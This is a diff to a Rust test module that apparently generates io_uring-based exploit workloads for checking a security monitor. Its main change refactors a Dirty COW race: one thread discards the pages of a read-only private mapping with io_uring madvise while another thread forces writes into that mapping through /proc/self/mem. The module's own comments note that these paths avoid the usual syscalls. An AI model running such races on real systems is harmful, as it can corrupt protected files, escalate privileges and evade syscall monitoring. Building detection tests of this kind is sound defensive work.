@@ -2,11 +2,18 @@
 //! requests (IORING_OP_WRITE, WRITEV, SPLICE, TEE, MADVISE): no write, splice, tee or madvise
 //! syscall is made for them. Plus the benign look-alike, io_uring as servers use it.
 
-use std::{fs::OpenOptions, os::unix::io::AsRawFd};
+use std::{
+    cell::RefCell,
+    fs::OpenOptions,
+    os::unix::{fs::FileExt, io::AsRawFd},
+};
 
 use io_uring::{IoUring, opcode, squeue, types};
 
-use super::{TARGET_WORD, cow_race, fail, primed_pipe, reap, self_mem, sleeping_child};
+use super::{
+    TARGET_WORD, dirtycow_race, fail, map_readonly_private, open_self_mem, primed_pipe, reap,
+    sleeping_child,
+};
 
 /// `off` of a request on a pipe: at the (stream's) current position.
 const AT_CURRENT: u64 = u64::MAX;
@@ -154,11 +161,20 @@ pub fn procmem() {
 /// read-only and private; one thread discards the pages with IORING_OP_MADVISE
 /// (MADV_DONTNEED), another forces writes into the mapping through /proc/self/mem.
 pub fn dirtycow(path: &str) {
-    let mut ring = Ring::new();
-    let (discards, writes, addr) = cow_race(path, move |addr, len| {
-        expect("madvise", ring.madvise(addr, len, libc::MADV_DONTNEED), 0);
-    });
-    println!("iouring-dirtycow: {discards} io_uring discards, {writes} forced writes at {addr:#x}");
+    let (addr, len) = map_readonly_private(path);
+    let mem = open_self_mem();
+    let ring = RefCell::new(Ring::new());
+    dirtycow_race(
+        "iouring-dirtycow",
+        addr,
+        move || {
+            let advised = ring.borrow_mut().madvise(addr, len, libc::MADV_DONTNEED);
+            expect("madvise", advised, 0);
+        },
+        move || {
+            let _ = mem.write_at(b"m00", addr as u64);
+        },
+    );
 }
 
 /// `iouring-benign`: io_uring the way a web server or fio uses it. Writes and vectored writes
@@ -213,7 +229,7 @@ pub fn benign() {
             libc::read(copy[0], back.as_mut_ptr().cast(), 16);
         }
     }
-    let mem = self_mem();
+    let mem = open_self_mem();
     let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
     expect(
         "write own memory",
